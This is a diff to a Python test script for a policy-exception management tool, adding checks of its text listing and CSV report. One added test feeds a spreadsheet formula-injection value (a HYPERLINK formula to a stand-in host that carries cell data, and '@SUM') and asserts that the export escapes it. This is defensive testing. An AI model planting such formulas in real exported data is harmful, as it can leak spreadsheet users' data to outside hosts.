@@ -3,6 +3,8 @@
 """Exceptions with the real programs: asked for by one officer, granted by
 another elsewhere, reviewed, ended, overdue; each refusal by its name, and a
 bundle that both verifiers find in order."""
+import csv
+import io
 import json
 import os
 
@@ -81,6 +83,8 @@ def two_grant(place):
     place.act(*words(), "--as", "sid")
     row = listed(place)["E1"]
     assert row["state"] == "waiting" and row["approved_by"] == ["sid"] and row["lapses"], row
+    text = place.act("exception", "list", "--as", "sid", text=True)
+    assert f"  from {row['from'][:10]} until {row['until'][:10]}, a review every 14 days\n" in text, text
     place.kill()
     assert listed(place)["E1"] == row
     place.refused("two-people", "exception", "approve", "E1", "--as", "sid", "--machine", place.machine)
@@ -100,6 +104,36 @@ def two_grant(place):
     text = place.act("exception", "list", "--as", "sid", text=True)
     assert "E1  live until " in text and "waives R1; population contractors; app wiki" in text, text
     assert "used 0 times" in text and "owner ria: laptops" in text, text
+    text = place.act("exception", "list", "E1", "--as", "sid", text=True)
+    for head, value in (("id", "E1"), ("state", "live"), ("owner", "ria"), ("reason", USUAL["reason"]),
+                        ("in its place", USUAL["compensating"]), ("scope", "population contractors; app wiki"),
+                        ("waives", "R1"), ("approved by", "sid sol"), ("from", row["from"]), ("until", row["until"]),
+                        ("next review", row["due"]), ("uses", "0"), ("days to a review", "14"),
+                        ("granted", row["granted"]), ("digest", row["object"])):
+        assert f"{head:20}{value}\n" in text, (head, text)
+
+
+def is_reported(place):
+    """For the meeting that reviews them: as text, and as a table that no
+    spreadsheet takes for a program."""
+    formula = '=HYPERLINK("http://example.org/?"&A1;"see here"), or not'
+    place.act(*words(id="E4", reason=formula, compensating="@SUM(1,1)", population=None, app=None), "--as", "sid")
+    rows = {row["id"]: row for row in place.act("report", "exceptions", "--as", "sid")["exceptions"]}
+    assert rows["E1"]["owner"] == "ria" and rows["E1"]["persons"] == 0 and rows["E1"]["in_force"] == 1, rows
+    command = ("report", "exceptions", "--as", "sid", *place.YES)
+    text = place.run(*command, "--csv", text=True)
+    table = {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+    one, other = table["E1"], table["E4"]
+    assert list(one) == ["id", "state", "owner", "reason", "in its place", "scope", "waives", "approved by", "from",
+                         "until", "next review", "reviewed by", "uses", "persons", "most of one person",
+                         "last use"], one
+    assert (one["state"], one["scope"], one["approved by"], one["reviewed by"], one["uses"]) == (
+        "live", "population contractors; app wiki", "sid sol", "", "0"), one
+    assert one["until"] == rows["E1"]["until"] and one["next review"] == rows["E1"]["due"], one
+    assert (other["state"], other["scope"], other["next review"]) == ("waiting", "everywhere", ""), other
+    assert other["reason"] == "'" + formula and other["in its place"] == "'@SUM(1,1)", other
+    text = place.run(*command, text=True)
+    assert "  owner               ria\n" in text and "  scope               everywhere\n" in text, text
 
 
 def one_ends(place):
@@ -147,12 +181,13 @@ def main():
         found(place)
         refuse_by_name(place)
         two_grant(place)
+        is_reported(place)
         one_ends(place)
         if later:
             time_goes_on(place, later)
         bundle = whole_case.check_bundle(place)
         lines = os.listdir(os.path.join(bundle, "data", "exceptions"))
-        assert len(lines) == (3 if later else 2), lines
+        assert len(lines) == (4 if later else 3), lines
         place.stop()
 
 
